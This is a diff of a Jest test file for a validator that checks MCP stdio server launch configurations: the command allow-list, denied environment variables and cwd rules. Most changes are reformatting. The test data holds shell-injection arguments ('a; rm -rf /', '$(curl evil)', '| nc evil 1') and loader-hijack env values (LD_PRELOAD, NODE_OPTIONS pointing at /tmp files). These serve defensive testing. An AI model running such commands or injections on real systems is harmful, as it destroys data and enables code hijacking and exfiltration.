@@ -15,19 +15,7 @@ describe('checkStdioLaunch', () => {
     ['python3.12', ['-m', 'mcp_server']],
     ['/usr/local/bin/mcp-server', []],
     ['/opt/mcp-servers/fs_server-1.2+build', []],
-    [
-      'npx',
-      [
-        'some-server',
-        'a; rm -rf /',
-        '$(curl evil)',
-        '`id`',
-        '| nc evil 1',
-        '&& reboot',
-        "'quoted'",
-        '\n',
-      ],
-    ],
+    ['npx', ['some-server', 'a; rm -rf /', '$(curl evil)', '`id`', '| nc evil 1', '&& reboot', "'quoted'", '\n']],
   ])('accepts %j with args %j', (command, args) => {
     expect(checkStdioLaunch({ command, args }, OPEN)).toEqual([]);
   });
@@ -91,20 +79,13 @@ describe('checkStdioLaunch', () => {
   });
 
   it('does not also report an invalid command as not allowed', () => {
-    expect(checkStdioLaunch({ command: 'npx -y x' }, ALLOW_LIST)).toEqual([
-      expect.objectContaining({ code: 'COMMAND_INVALID' }),
-    ]);
+    expect(checkStdioLaunch({ command: 'npx -y x' }, ALLOW_LIST)).toEqual([expect.objectContaining({ code: 'COMMAND_INVALID' })]);
   });
 
   describe('with an allow-list', () => {
-    it.each(['npx', 'uvx', '/usr/local/bin/mcp-server'])(
-      'accepts %j',
-      (command) => {
-        expect(
-          checkStdioLaunch({ command, args: ['-c', 'anything'] }, ALLOW_LIST),
-        ).toEqual([]);
-      },
-    );
+    it.each(['npx', 'uvx', '/usr/local/bin/mcp-server'])('accepts %j', (command) => {
+      expect(checkStdioLaunch({ command, args: ['-c', 'anything'] }, ALLOW_LIST)).toEqual([]);
+    });
 
     it.each([
       ['sh', 'shell by name'],
@@ -115,9 +96,7 @@ describe('checkStdioLaunch', () => {
       ['mcp-server', 'the basename of an allowed path'],
       ['NPX', 'different case'],
     ])('refuses %j (%s)', (command) => {
-      expect(
-        checkStdioLaunch({ command, args: ['-c', 'id'] }, ALLOW_LIST),
-      ).toEqual([
+      expect(checkStdioLaunch({ command, args: ['-c', 'id'] }, ALLOW_LIST)).toEqual([
         {
           field: 'config.command',
           code: 'COMMAND_NOT_ALLOWED',
@@ -127,12 +106,7 @@ describe('checkStdioLaunch', () => {
     });
 
     it('treats an empty list as no restriction', () => {
-      expect(
-        checkStdioLaunch(
-          { command: 'sh' },
-          { allowedCommands: [], deniedEnv: { families: [], allowed: [] } },
-        ),
-      ).toEqual([]);
+      expect(checkStdioLaunch({ command: 'sh' }, { allowedCommands: [], deniedEnv: { families: [], allowed: [] } })).toEqual([]);
     });
   });
 
@@ -156,9 +130,7 @@ describe('checkStdioLaunch', () => {
       'WGETRC',
       'RUBYGEMS_GEMDEPS',
     ])('refuses %s, which an attack got through', (name) => {
-      expect(
-        checkStdioLaunch({ command: 'node', env: { [name]: '/tmp/x' } }, OPEN),
-      ).toEqual([
+      expect(checkStdioLaunch({ command: 'node', env: { [name]: '/tmp/x' } }, OPEN)).toEqual([
         expect.objectContaining({
           field: `config.env.${name}`,
           code: 'ENV_NOT_ALLOWED',
@@ -199,9 +171,7 @@ describe('checkStdioLaunch', () => {
       'NPM_CONFIG_SCRIPT_SHELL',
       'Npm_Config_Registry',
     ])('refuses %s', (name) => {
-      expect(
-        checkStdioLaunch({ command: 'npx', env: { [name]: '/tmp/x' } }, OPEN),
-      ).toEqual([
+      expect(checkStdioLaunch({ command: 'npx', env: { [name]: '/tmp/x' } }, OPEN)).toEqual([
         expect.objectContaining({
           field: `config.env.${name}`,
           code: 'ENV_NOT_ALLOWED',
@@ -209,20 +179,10 @@ describe('checkStdioLaunch', () => {
       ]);
     });
 
-    it.each([
-      'LD_PRELOAD=/tmp/evil.so#',
-      'NODE_OPTIONS=--require=/tmp/x',
-      'A B',
-      'A\nLD_PRELOAD',
-      '',
-      '1ABC',
-      'NAME-WITH-DASH',
-    ])(
+    it.each(['LD_PRELOAD=/tmp/evil.so#', 'NODE_OPTIONS=--require=/tmp/x', 'A B', 'A\nLD_PRELOAD', '', '1ABC', 'NAME-WITH-DASH'])(
       'refuses the malformed name %j, which could smuggle another variable',
       (name) => {
-        expect(
-          checkStdioLaunch({ command: 'npx', env: { [name]: 'v' } }, OPEN),
-        ).toEqual([
+        expect(checkStdioLaunch({ command: 'npx', env: { [name]: 'v' } }, OPEN)).toEqual([
           {
             field: `config.env.${name}`,
             code: 'ENV_NOT_ALLOWED',
@@ -262,12 +222,7 @@ describe('checkStdioLaunch', () => {
     });
 
     it('names the family and the override in the message', () => {
-      expect(
-        checkStdioLaunch(
-          { command: 'node', env: { OPENSSL_CONF: '/tmp/evil.cnf' } },
-          OPEN,
-        ),
-      ).toEqual([
+      expect(checkStdioLaunch({ command: 'node', env: { OPENSSL_CONF: '/tmp/evil.cnf' } }, OPEN)).toEqual([
         {
           field: 'config.env.OPENSSL_CONF',
           code: 'ENV_NOT_ALLOWED',
@@ -289,17 +244,27 @@ describe('checkStdioLaunch', () => {
         prefixes: [],
       };
 
-      expect(
-        checkStdioLaunch(spec, { deniedEnv: resolveDeniedEnv(['PATH']) }),
-      ).toEqual([]);
+      expect(checkStdioLaunch(spec, { deniedEnv: resolveDeniedEnv(['PATH']) })).toEqual([]);
       const issues = checkStdioLaunch(spec, {
         deniedEnv: { families: [custom], allowed: [] },
       });
 
-      expect(issues.map((issue) => issue.field)).toEqual([
-        'config.env.CUSTOM_HOOK',
-      ]);
+      expect(issues.map((issue) => issue.field)).toEqual(['config.env.CUSTOM_HOOK']);
       expect(issues[0]?.message).toContain('custom hooks run code');
     });
+  });
+
+  it.each([
+    ['srv/app', 'must be an absolute path'],
+    ['/srv/../etc', 'must not contain . or .. path segments'],
+    ['/srv/\tapp', 'must not contain control characters'],
+  ])('refuses the cwd %j', (cwd, message) => {
+    expect(checkStdioLaunch({ command: 'node', cwd }, OPEN)).toEqual([
+      { field: 'config.cwd', code: 'CWD_INVALID', message: `cwd ${message}` },
+    ]);
+  });
+
+  it('accepts an absolute cwd', () => {
+    expect(checkStdioLaunch({ command: 'node', cwd: '/srv/app' }, OPEN)).toEqual([]);
   });
 });
